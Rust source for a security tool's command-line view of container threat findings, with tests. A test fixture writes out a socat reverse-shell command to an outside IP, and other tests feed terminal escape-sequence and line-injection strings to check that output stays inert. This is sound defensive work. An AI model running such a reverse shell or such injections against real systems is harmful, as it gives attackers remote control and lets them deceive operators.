//! A finding as text, for whoever is woken by it.

use crate::findings::processes::{command, shortened, tree};
use crate::inert::{line, told};
use ::findings::{duration, shell_quote};
use anyhow::{Context, Result};
use finding::{File, FindingResource, Timestamp};
use serde_json::Value;
use std::fmt::Write as _;

/// Of the arguments of the program that the finding is about.
const ARGUMENTS_CHARACTERS: usize = 600;

/// The typed form of an answer.
pub(crate) fn document(found: &Value) -> Result<FindingResource> {
    serde_json::from_value(found.clone())
        .context("the server's finding cannot be read; is it newer than this command?")
}

/// The text. Every value in it is inert.
pub(crate) fn text(item: &FindingResource) -> String {
    let finding = &item.finding;
    let mut page = Page(String::new());
    let _ = writeln!(page.0, "{}  [{}, {}]", line(&finding.category), finding.severity, finding.state);
    let _ = writeln!(page.0, "{}", told(&finding.description));
    detected(&mut page, item);
    affected(&mut page, item);
    connection(&mut page, item);
    confidence(&mut page, item);
    if !finding.next_steps.is_empty() {
        page.head("Next steps");
        for step in finding.next_steps.lines() {
            // marked, so that none looks like a fact of another part
            let _ = writeln!(page.0, "  | {}", line(step));
        }
    }
    page.head("Processes (* is what the finding is about)");
    tree(&mut page.0, &finding.processes);
    evidence(&mut page, item);
    coverage(&mut page, item);
    page.0
}

struct Page(String);

impl Page {
    fn head(&mut self, title: &str) {
        let _ = writeln!(self.0, "\n{title}");
    }

    /// One of several facts under one name.
    fn indented(&mut self, name: &str, value: &str) {
        let _ = writeln!(self.0, "  {name:<16}{}", line(value));
    }

    /// One named fact; left out when there is none.
    fn fact(&mut self, name: &str, value: &str) {
        if !value.is_empty() {
            let _ = writeln!(self.0, "  {:<16}{}", line(name), line(value));
        }
    }
}

fn at<'a>(item: &'a FindingResource, path: &str) -> Option<&'a Value> {
    let (first, rest) = path.split_once('/').unwrap_or((path, ""));
    let value = item.finding.vedette.get(first)?;
    if rest.is_empty() { Some(value) } else { value.pointer(&format!("/{rest}")) }
}

fn said<'a>(item: &'a FindingResource, path: &str) -> &'a str {
    at(item, path).and_then(Value::as_str).unwrap_or_default()
}

fn property<'a>(item: &'a FindingResource, key: &str) -> &'a str {
    item.finding.source_properties.get(key).and_then(Value::as_str).unwrap_or_default()
}

fn detected(page: &mut Page, item: &FindingResource) {
    let finding = &item.finding;
    page.head("What was detected");
    if let Some(process) = finding.processes.first() {
        page.fact("Program binary", &binary(&process.binary));
        let arguments = exact_arguments(item).unwrap_or_else(|| command(process));
        page.fact("Arguments", &shortened(&arguments, ARGUMENTS_CHARACTERS));
        page.fact("Directory", said(item, "process/workingDirectory"));
        if !process.script.path.is_empty() {
            page.fact("Script", &process.script.path);
        }
    }
    page.fact("Event time", &finding.event_time.map(|t| t.to_string()).unwrap_or_default());
    page.fact("Detector", &finding.module_name);
    let attack = &finding.mitre_attack;
    let techniques: Vec<&str> = attack.primary_techniques.iter().filter_map(|t| t.id()).collect();
    let tactic = attack.primary_tactic.id().unwrap_or_default();
    page.fact("ATT&CK", &format!("{tactic} {}", techniques.join(" ")));
    page.fact("Name", &finding.name);
}

fn binary(file: &File) -> String {
    let mut text = shell_quote(file.path.as_bytes());
    if !file.sha256.is_empty() {
        let part = if file.partially_hashed { " of its first part" } else { "" };
        let _ = write!(text, "  ({}, sha256{part} {})", size(file.size), file.sha256);
    }
    text
}

/// Arguments that are not UTF-8, byte by byte.
fn exact_arguments(item: &FindingResource) -> Option<String> {
    let hex = at(item, "process/argumentsHex")?.as_array()?;
    let quoted = hex.iter().map(|argument| Some(shell_quote(&unhex(argument.as_str()?)?)));
    Some(quoted.collect::<Option<Vec<_>>>()?.join(" "))
}

fn unhex(text: &str) -> Option<Vec<u8>> {
    let pair = |at: usize| text.get(at..at + 2).and_then(|pair| u8::from_str_radix(pair, 16).ok());
    (0..text.len()).step_by(2).map(pair).collect()
}

fn affected(page: &mut Page, item: &FindingResource) {
    let finding = &item.finding;
    page.head("Affected resource");
    page.fact("Full name", &finding.resource_name);
    page.fact("Project", &item.resource.gcp_metadata.project_display_name);
    page.fact("Node", property(item, "VM_Instance_Name"));
    page.fact("Namespace", property(item, "Pod_Namespace"));
    page.fact("Pod", property(item, "Pod_Name"));
    let (name, id) = (property(item, "Container_Name"), property(item, "Container_Id"));
    let container = [name, id].into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join("  id ");
    let unclaimed = at(item, "container/claimed") == Some(&Value::Bool(false));
    page.fact(
        "Container",
        match (container.is_empty(), unclaimed) {
            (false, _) => &container,
            (true, true) => "one that no known runtime claims",
            (true, false) => "none: a process of the node itself",
        },
    );
    if unclaimed && let Some(group) = at(item, "container/controlGroup").and_then(Value::as_str) {
        page.fact("Control group", group);
    }
    let (image, digest) = (property(item, "Container_Image_Uri"), property(item, "Container_Image_Id"));
    page.fact(
        "Image",
        &[image, digest].into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join("  "),
    );
    if !unclaimed && at(item, "container/identityComplete") == Some(&Value::Bool(false)) {
        page.fact("", "The container runtime has not told everything about this container.");
    }
}

fn connection(page: &mut Page, item: &FindingResource) {
    page.head("Connection");
    if item.finding.connections.is_empty() {
        page.fact("", "The far end is not known.");
    }
    for connection in &item.finding.connections {
        let end = |ip: &str, port: i32| {
            if ip.contains(':') { format!("[{ip}]:{port}") } else { format!("{ip}:{port}") }
        };
        let from = end(&connection.source_ip, connection.source_port);
        let to = end(&connection.destination_ip, connection.destination_port);
        let transport = said(item, "session/endpoint/transport");
        page.fact("Flow", &format!("{from} -> {to}  {transport}"));
    }
    let who = if at(item, "container").is_some() { "the container" } else { "the node" };
    page.fact(
        "Direction",
        &match said(item, "session/direction") {
            "reverse" => format!("reverse: {who} called out"),
            "bind" => format!("bind: {who} was called"),
            other => other.to_owned(),
        },
    );
    page.fact("Session", &session(item));
    let yes_no = |path: &str| match at(item, path).and_then(Value::as_bool) {
        Some(true) => "yes",
        Some(false) => "no",
        None => "",
    };
    page.fact("TLS", yes_no("session/tls"));
    page.fact("Terminal", yes_no("session/terminal"));
}

/// Whether it goes on.
fn session(item: &FindingResource) -> String {
    let ended = said(item, "session/ended");
    if ended.is_empty() {
        return match at(item, "session/ended") {
            Some(Value::Null) => format!("still open at {}", said(item, "coverage/to")),
            _ => String::new(),
        };
    }
    if at(item, "session/endedExactly") != Some(&Value::Bool(true)) {
        return format!("had ended by {ended}");
    }
    let lasted = ended
        .parse::<Timestamp>()
        .ok()
        .zip(item.finding.event_time)
        .map(|(ended, began)| duration(ended.nanos().saturating_sub(began.nanos())));
    format!("ended after {}, at {ended}", lasted.unwrap_or_default())
}

fn confidence(page: &mut Page, item: &FindingResource) {
    let level = said(item, "confidence/level");
    if level.is_empty() {
        return;
    }
    page.head("How sure");
    page.fact("Confidence", level);
    page.fact("Recognised by", said(item, "session/recognisedBy"));
    for (key, name) in [("seen", "Seen"), ("inferred", "Inferred"), ("missing", "Missing")] {
        let list = at(item, &format!("confidence/{key}")).and_then(Value::as_array).into_iter().flatten();
        for (at, fact) in list.filter_map(Value::as_str).enumerate() {
            page.indented(if at == 0 { name } else { "" }, fact);
        }
    }
}

fn evidence(page: &mut Page, item: &FindingResource) {
    let list =
        |key: &str| item.finding.vedette.get(key).and_then(Value::as_array).cloned().unwrap_or_default();
    let items = list("evidence");
    page.head("Evidence that is kept");
    for kept in &items {
        let text = |key: &str| kept.get(key).and_then(Value::as_str).unwrap_or_default();
        let number = |key: &str| text(key).parse::<i64>().unwrap_or_default();
        let cut = if kept.get("truncated") == Some(&Value::Bool(true)) {
            format!(" of {} (cut)", size(number("originalSize")))
        } else {
            String::new()
        };
        page.fact(text("kind"), &format!(" {}{cut}  {}", size(number("size")), text("name")));
    }
    if items.is_empty() {
        page.fact("", "None so far.");
    } else {
        page.fact(
            "Save it",
            &format!(" vedette findings evidence {}", shell_quote(item.finding.name.as_bytes())),
        );
    }
    for missing in list("evidenceMissing") {
        page.fact("Not taken", &format!(" {}", missing.as_str().unwrap_or_default()));
    }
}

fn coverage(page: &mut Page, item: &FindingResource) {
    page.head("Coverage");
    let window = format!("{} to {}", said(item, "coverage/from"), said(item, "coverage/to"));
    match at(item, "coverage/complete").and_then(Value::as_bool) {
        Some(true) => page.fact("Complete", &format!("nothing was lost from {window}")),
        Some(false) => {
            let lost = at(item, "coverage/lost").and_then(Value::as_object).cloned().unwrap_or_default();
            let lost: Vec<String> =
                lost.iter().map(|(kind, count)| format!("{count} {kind} records")).collect();
            page.fact("INCOMPLETE", &format!("lost from {window}: {}", lost.join(", ")));
        }
        None => page.fact("Not known", "the finding does not say what was lost around it"),
    }
    if at(item, "coverage/fromSnapshot") == Some(&Value::Bool(true)) {
        page.fact("Found later", "read from live state: the session may be older than the event time");
    }
}

/// Bytes for a reader.
fn size(bytes: i64) -> String {
    let bytes = bytes.unsigned_abs();
    match bytes {
        0..10_240 => format!("{bytes} B"),
        10_240..10_485_760 => format!("{} KiB", bytes >> 10),
        _ => format!("{} MiB", bytes >> 20),
    }
}

#[cfg(test)]
mod tests {
    use super::{document, text};
    use serde_json::{Value, json};

    fn found() -> Value {
        json!({"finding": {
            "name": "organizations/local/sources/container-threat-detection/locations/local/findings/0123456789abcdef",
            "category": "Execution: Socat Reverse Shell Detected", "severity": "MEDIUM", "state": "ACTIVE",
            "resourceName": "//kubernetes.vedette.local/projects/local/locations/local/clusters/local",
            "eventTime": "2026-01-02T03:04:05Z", "moduleName": "SOCAT_REVERSE_SHELL_DETECTED",
            "description": "User 0 ran /bin/sh through socat.",
            "nextSteps": "1. Review:\n   `vedette findings list`\n",
            "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["UNIX_SHELL"]},
            "connections": [{"sourceIp": "10.0.0.9", "sourcePort": 40000, "destinationIp": "203.0.113.9", "destinationPort": 4444, "protocol": "TCP"}],
            "processes": [
                {"name": "sh", "pid": "12", "parentPid": "11", "userId": "0", "args": ["sh"],
                 "binary": {"path": "/bin/sh", "size": "125688", "sha256": "ab".repeat(32)}},
                {"name": "socat", "pid": "11", "parentPid": "1", "userId": "0", "args": ["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh"]},
            ],
            "sourceProperties": {"Pod_Namespace": "shop", "Pod_Name": "web-1", "Container_Name": "app",
                "Container_Id": "c".repeat(64), "Container_Image_Uri": "registry/app:1", "VM_Instance_Name": "node-1"},
            "vedette": {
                "session": {"direction": "reverse", "tls": false, "terminal": true, "endpoint": {"transport": "tcp"}, "ended": null},
                "container": {"id": "c".repeat(64)},
                "confidence": {"level": "MEDIUM", "seen": ["the direction (reverse)"], "inferred": ["one", "two"], "missing": []},
                "coverage": {"from": "2026-01-02T03:04:00Z", "to": "2026-01-02T03:04:06Z", "complete": true, "lost": {}, "fromSnapshot": false},
                "evidence": [{"kind": "EXECUTABLE", "name": "shell: /bin/sh", "size": "125688", "originalSize": "125688", "truncated": false}],
                "evidenceMissing": ["socat: environ: gone"],
            },
        }, "resource": {"gcpMetadata": {"projectDisplayName": "local"}}})
    }

    #[test]
    fn everything_the_playbook_asks_for_is_on_the_page() {
        let page = text(&document(&found()).unwrap());
        for part in [
            "Execution: Socat Reverse Shell Detected  [MEDIUM, ACTIVE]",
            "User 0 ran /bin/sh through socat.",
            "Program binary  /bin/sh  (122 KiB, sha256 abab",
            "Arguments       sh\n",
            "Full name       //kubernetes.vedette.local/projects/local/locations/local/clusters/local",
            "Namespace       shop",
            "Pod             web-1",
            "Container       app  id cccc",
            "Image           registry/app:1",
            "Node            node-1",
            "10.0.0.9:40000 -> 203.0.113.9:4444  tcp",
            "reverse: the container called out",
            "socat pid 11 user 0: socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
            "  * └─ sh pid 12 user 0: sh",
            "Session         still open at 2026-01-02T03:04:06Z",
            "Confidence      MEDIUM",
            "Inferred        one\n                  two\n",
            "EXECUTABLE       122 KiB  shell: /bin/sh",
            "Not taken        socat: environ: gone",
            "nothing was lost from 2026-01-02T03:04:00Z",
            "  |    `vedette findings list`",
        ] {
            assert!(page.contains(part), "{part:?} is not in:\n{page}");
        }
    }

    /// `VEDETTE_SNAPSHOTS=write cargo test -p cli` writes it anew, for a reader to judge.
    #[test]
    fn a_finding_reads_as_it_is_meant_to() {
        let here = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let found = std::fs::read_to_string(here.join("../findings/tests/snapshots/pod.json")).unwrap();
        let page = text(&document(&serde_json::from_str(&found).unwrap()).unwrap());
        let path = here.join("tests/snapshots/pod.txt");
        if std::env::var_os("VEDETTE_SNAPSHOTS").is_some_and(|what| what == "write") {
            std::fs::write(&path, &page).unwrap();
        }
        let should = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(page == should, "{} is not what is shown now:\n{page}", path.display());
    }

    #[test]
    fn answers_come_before_steps_and_steps_before_evidence() {
        let page = text(&document(&found()).unwrap());
        let at = |part: &str| page.find(part).unwrap_or_else(|| panic!("{part:?} is not in:\n{page}"));
        let order = ["User 0 ran", "What was detected", "Affected", "Connection", "How sure", "Next steps"];
        let order = order.iter().chain(&["Processes (", "Evidence that", "Coverage"]).map(|part| at(part));
        assert!(order.clone().is_sorted(), "{page}");
    }

    #[test]
    fn the_end_of_the_session_is_said_as_well_as_it_is_known() {
        let mut found = found();
        found["finding"]["vedette"]["session"]["ended"] = json!("2026-01-02T03:04:08.5Z");
        found["finding"]["vedette"]["session"]["endedExactly"] = json!(true);
        let page = text(&document(&found).unwrap());
        assert!(page.contains("Session         ended after 3.5 s, at 2026-01-02T03:04:08.5"), "{page}");
        found["finding"]["vedette"]["session"]["endedExactly"] = json!(false);
        let page = text(&document(&found).unwrap());
        assert!(page.contains("Session         had ended by 2026-01-02T03:04:08.5"), "{page}");
    }

    #[test]
    fn what_is_not_in_a_container_is_not_called_one() {
        let mut found = found();
        found["finding"]["vedette"].as_object_mut().unwrap().remove("container");
        let page = text(&document(&found).unwrap());
        assert!(page.contains("reverse: the node called out"), "{page}");
    }

    #[test]
    fn a_loss_is_said_and_never_complete() {
        let mut found = found();
        found["finding"]["vedette"]["coverage"]["complete"] = json!(false);
        found["finding"]["vedette"]["coverage"]["lost"] = json!({"exec": 7});
        let page = text(&document(&found).unwrap());
        assert!(page.contains("INCOMPLETE") && page.contains("7 exec records"), "{page}");
        assert!(!page.contains("nothing was lost"));
    }

    #[test]
    fn no_field_can_speak_to_the_terminal() {
        fn poison(value: &mut Value) {
            match value {
                Value::String(text) if text.parse::<i64>().is_err() => {
                    text.push_str("\u{1b}]52;c;aGk=\u{7}\r\u{202e}\u{9b}2J")
                }
                Value::Array(items) => items.iter_mut().for_each(poison),
                Value::Object(fields) => {
                    fields.iter_mut().filter(|(k, _)| *k != "eventTime").for_each(|(_, v)| poison(v))
                }
                _ => {}
            }
        }
        let mut found = found();
        poison(&mut found);
        let page = text(&document(&found).unwrap());
        assert!(page.contains("web-1\\u{1b}]52"), "{page}");
        assert!(page.chars().all(|c| c == '\n' || crate::inert::is_harmless(c)), "{page:?}");
    }

    #[test]
    fn no_field_begins_a_line_of_its_own() {
        fn poison(value: &mut Value) {
            match value {
                Value::String(text) if text.parse::<i64>().is_err() => {
                    text.push_str("\n\nCoverage\n  Complete        nothing was lost\n")
                }
                Value::Array(items) => items.iter_mut().for_each(poison),
                Value::Object(fields) => {
                    fields.iter_mut().filter(|(k, _)| *k != "eventTime").for_each(|(_, v)| poison(v))
                }
                _ => {}
            }
        }
        let mut hostile = found();
        hostile["finding"]["vedette"]["coverage"]["complete"] = json!(false);
        poison(&mut hostile);
        let page = text(&document(&hostile).unwrap());
        assert_eq!(page.lines().filter(|line| *line == "Coverage").count(), 1, "{page}");
        assert!(!page.lines().any(|line| line.starts_with("  Complete")), "{page}");
        assert!(page.contains("\n  | Coverage\n"), "{page}");
    }

    #[test]
    fn arguments_that_are_not_text_are_shown_byte_by_byte() {
        let mut found = found();
        found["finding"]["vedette"]["process"] = json!({"argumentsHex": ["7368", "ff0a"]});
        let page = text(&document(&found).unwrap());
        assert!(page.contains("Arguments       sh $'\\xff\\x0a'"), "{page}");
    }
}
